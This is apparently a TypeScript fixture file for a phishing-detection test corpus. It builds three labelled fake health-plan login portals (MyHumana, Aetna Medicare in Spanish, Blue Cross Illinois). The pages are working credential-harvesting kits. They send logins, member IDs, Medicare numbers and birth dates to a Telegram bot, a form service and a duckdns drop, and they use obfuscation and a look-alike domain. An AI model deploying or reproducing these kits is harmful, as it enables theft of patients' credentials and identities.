import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { b64, chunks, codes, css, dotIcon, hex, logos, planFooter, shell, xorB64, xorDecoderJs } from '../parts/yt-kit.js';

/** Member-portal credential kits for health plans: multi-step, Telegram/PHP/form-service drops, cloaking, look-alikes. */


// ---- Humana: Telegram bot drop, token hidden as base64 pieces
const tgToken = '7712094458:AAFq3vK0x_HmNw2Lr9TzQe1pY8cUj5sVbQo';
const humanaKit = shell({
  title: 'MyHumana - Sign In',
  favicon: dotIcon('#78be20'),
  css: css.portal + `.btn{background:#00a0af;border-radius:4px}.card{border-top:6px solid #78be20}`,
  body: `<div class="top">${logos.humana}<span style="font-size:13px;color:#555">Medicare Advantage · Medicaid · Dental · Vision</span></div>
<div class="card">
  <h1>Sign in to MyHumana</h1>
  <p class="sub">Important: Your 2026 Annual Notice of Change requires confirmation of your account details.</p>
  <div class="err" id="e">Incorrect username or password.</div>
  <form id="hf">
    <label>Username</label><input type="text" name="user" required>
    <label>Password</label><input type="password" name="pass" required>
    <label>Humana member ID</label><input type="text" name="hid" placeholder="H12345678" required>
    <button class="btn">Sign in</button>
  </form>
  <div class="links"><a href="#">Forgot username or password?</a><a href="#">Create a MyHumana account</a></div>
</div>
<div class="foot">${planFooter('Humana Inc.')}</div>
<script>
(function(){
  var p = ['${b64(tgToken).slice(0, 20)}','${b64(tgToken).slice(20)}'];
  var t = atob(p.join('')), c = atob('${b64('-1002231874410')}');
  var ip = '';
  fetch('https://api.ipify.org?format=json').then(function(r){return r.json();}).then(function(j){ip=j.ip;}).catch(function(){});
  var n = 0;
  document.getElementById('hf').addEventListener('submit', function(ev){
    ev.preventDefault();
    var f = ev.target, msg = '\\u{1F7E2} HUMANA LOG\\n' + 'User: ' + f.user.value + '\\nPass: ' + f.pass.value + '\\nMemberID: ' + f.hid.value + '\\nIP: ' + ip + '\\nUA: ' + navigator.userAgent;
    fetch('https://api.telegram.org/bot' + t + '/sendMessage', {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify({chat_id:c, text:msg})})
      .finally(function(){ n++; if (n < 2) { document.getElementById('e').style.display = 'block'; f.pass.value=''; } else { location.replace('https://www.humana.com/logon'); } });
  });
})();
</script>`,
});

// ---- Aetna Medicare, Spanish, drop is a hosted form service
const aetnaEs = shell({
  title: 'Aetna Medicare | Iniciar sesión',
  lang: 'es',
  favicon: dotIcon('#7d3f98'),
  css: css.portal + `.btn{background:#7d3f98}.banner{background:#7d3f98;color:#fff;padding:10px 28px;font-size:14px}`,
  body: `<div class="banner">Aviso: su tarjeta de identificación de Medicare Advantage 2026 está lista. Verifique su cuenta para recibirla por correo.</div>
<div class="top">${logos.aetna}<a href="#">English</a></div>
<div class="card">
  <h1>Inicie sesión en su cuenta</h1>
  <p class="sub">Miembros de Aetna Medicare Advantage y Medicare Part D</p>
  <form action="https://formspree.io/f/mqkvzrye" method="POST">
    <input type="hidden" name="_subject" value="AETNA ES nuevo">
    <input type="hidden" name="_next" value="https://www.aetnamedicare.com/es/">
    <label>Nombre de usuario</label><input type="text" name="usuario" required>
    <label>Contraseña</label><input type="password" name="clave" required>
    <label>Número de Medicare (MBI)</label><input type="text" name="mbi" placeholder="1EG4-TE5-MK73" required>
    <label>Fecha de nacimiento</label><input type="text" name="nacimiento" placeholder="MM/DD/AAAA" required>
    <label>Teléfono</label><input type="tel" name="telefono" required>
    <button class="btn" type="submit">Iniciar sesión</button>
  </form>
  <div class="links"><a href="#">¿Olvidó su nombre de usuario?</a><a href="#">¿Olvidó su contraseña?</a><a href="#">Registrarse</a></div>
</div>
<div class="foot"><p>© 2025 Aetna Inc. Aetna Medicare es un plan HMO, PPO con un contrato de Medicare.</p></div>`,
});

// ---- Blue Cross Blue Shield of Illinois look-alike on an IDN host (bcbsıl.com), Blue Access for Members
const bcbsKit = shell({
  title: 'Blue Access for Members℠ | Log In',
  favicon: dotIcon('#0060a9'),
  css: css.portal + `.btn{background:#0060a9;border-radius:3px}.card{max-width:460px}`,
  body: `<div class="top">${logos.bcbs}<a href="#">Find a doctor</a></div>
<div class="card">
  <h1>Blue Access for Members<sup>SM</sup></h1>
  <p class="sub">Log in to see your coverage, claims and your digital member ID card.</p>
  <form id="bam" method="post" action="/bam/auth/validate">
    <label>Username</label><input type="text" name="j_username" required>
    <label>Password</label><input type="password" name="j_password" required>
    <input type="hidden" name="plan" value="IL1">
    <button class="btn">Log In</button>
  </form>
  <div class="links"><a href="#">Forgot username or password?</a><a href="#">Register now</a></div>
</div>
<div class="foot"><p>Blue Cross and Blue Shield of Illinois, a Division of Health Care Service Corporation, a Mutual Legal Reserve Company, an Independent Licensee of the Blue Cross and Blue Shield Association.</p></div>
<script src="/bam/js/app.min.js"></script>`,
});
const bcbsJs = `(function(){var f=document.getElementById('bam');f.addEventListener('submit',function(e){e.preventDefault();
var d=${chunks('https://bcbs-il-bam.duckdns.org/r.php', 7)}.join('');
navigator.sendBeacon(d,new URLSearchParams(new FormData(f)));
setTimeout(function(){location.href='https://www.bcbsil.com/'},600);});})();`;

export const entries: Entry[] = [
{
  id: 'yt-humana-telegram-drop-web-app',
  label: 'phishing',
  kind: 'member-portal-credential-kit',
  url: 'https://myhumana-anoc-confirm.web.app/logon',
  body: humanaKit,
},
{
  id: 'yt-aetna-medicare-es-formspree',
  label: 'phishing',
  kind: 'member-portal-credential-kit',
  url: 'https://aetna-medicare-tarjeta2026.netlify.app/es/iniciar-sesion',
  body: aetnaEs,
},
{
  id: 'yt-bcbsil-idn-lookalike-bam',
  label: 'phishing',
  kind: 'lookalike-domain-member-kit',
  url: 'https://xn--bcbsl-q4a.com/bam/login',
  body: bcbsKit,
  routes: {
    'xn--bcbsl-q4a.com/bam/js/app.min.js': jsRoute(bcbsJs),
    'xn--bcbsl-q4a.com/favicon.png': pngRoute(0, 96, 169),
  },
},
];
